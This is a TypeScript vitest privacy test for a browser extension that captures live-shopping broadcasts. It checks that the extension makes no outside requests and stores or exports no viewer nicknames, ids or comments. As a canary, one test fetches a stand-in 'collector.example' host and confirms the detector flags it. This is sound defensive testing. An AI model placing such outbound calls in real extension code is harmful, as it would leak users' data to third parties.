import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csv } from '../../utils/exchange/csv/csv.ts';
import { exportFile } from '../../utils/exchange/file.ts';
import { ndjson } from '../../utils/exchange/ndjson/ndjson.ts';
import { wordsIn } from '../../utils/settings/words.ts';
import { bringPageWords } from '../../utils/settings/words/pages.ts';
import { readTables } from '../tools/tables.ts';
import { BROWSERS_OWN } from './browsers-own.ts';
import { press } from './dashboard.ts';
import { hiding } from './hiding.ts';
import { shop } from './shop.ts';
import { BROWSERS, openStage, type Stage } from './stage.ts';

bringPageWords();
const say = wordsIn('zh');

interface Extension {
  readonly storage: { readonly local: { readonly get: (keys: null) => Promise<unknown> } };
}

const { capture, identities } = shop({ minutes: 10 });
/** Shorter comments ("1", "好看") stand by chance in what is no comment. */
const LONG_ENOUGH = 6;
const secrets = Object.values({ ...identities })
  .flat()
  .filter((secret) => secret.length >= LONG_ENOUGH);

const PLACES = [
  '#/live',
  '#/products',
  '#/review',
  '#/compare',
  '#/orders',
  '#/platforms',
  '#/definitions',
  '#/data',
  '#/settings',
];

for (const browser of BROWSERS) {
  describe(`what the extension keeps of a generated broadcast, in ${browser}`, () => {
    let stage: Stage;
    /** Every store, and what the extension holds beside its database. */
    let kept: Record<string, unknown>;

    beforeAll(async () => {
      stage = await openStage({ browser, captures: [capture], speed: 120 });
      await stage.rooms.start();
      await stage.rooms.ended;
      expect(await stage.stored()).toBe(0);
      const api = browser === 'firefox' ? 'browser' : 'chrome';
      const settings = await stage.reader.evaluate(
        (name) => (Reflect.get(globalThis, name) as Extension).storage.local.get(null),
        api,
      );
      kept = { ...(await readTables(stage.reader)), settings };
    });
    afterAll(() => stage.close());

    it('sends nothing anywhere, whatever is opened: every request is one that the captured pages made', async () => {
      const { reader } = stage;
      await reader.bringToFront();
      const [{ key } = expect.unreachable()] = await stage.broadcasts();
      for (const hash of [...PLACES, `#/broadcast/${encodeURIComponent(key)}`, '#/welcome']) {
        await reader.evaluate((place) => {
          location.hash = place;
        }, hash);
        await reader.waitForSelector('main h1');
      }
      await press(reader, say('welcome.tryStart'));
      await reader.waitForSelector('.welcome-figures');
      for (const name of ['monitor', 'popup'])
        await (await stage.opened.extensionPage(`${name}.html`)).close();
      const others = (): readonly string[] =>
        stage.rooms.strange().filter((name) => !BROWSERS_OWN.test(name));
      expect(others()).toEqual([]);
      // It would be seen: a page of the extension that asks for anything is.
      await reader.evaluate(() => fetch('https://collector.example/?a=1').catch(() => null));
      expect(others()).toEqual(['collector.example/?a=1']);
    });

    it('holds none of its nicknames, ids and comment texts in any store or binary column', () => {
      expect(hiding(kept, secrets)).toEqual([]);
    });

    it('exports none of them', async () => {
      const [broadcast = expect.unreachable()] = await stage.broadcasts();
      const files = [csv, ndjson].map((format) => exportFile(format, broadcast));
      expect(hiding(files, secrets)).toEqual([]);
    });

    it('would be caught if it held one', () => {
      const [planted = expect.unreachable()] = identities.nicknames;
      const bytes = new TextEncoder().encode(`..${planted}..`);
      const [chunk] = kept['chunks'] as { log: Uint8Array }[];
      expect(hiding({ ...kept, planted: [{ ...chunk, log: bytes }] }, secrets)).toEqual([planted]);
      const [id = expect.unreachable()] = identities.ids;
      expect(
        hiding({ ...kept, planted: { order: Number(id) > 2 ** 53 ? BigInt(id) : id } }, secrets),
      ).toEqual([id]);
    });
  });
}
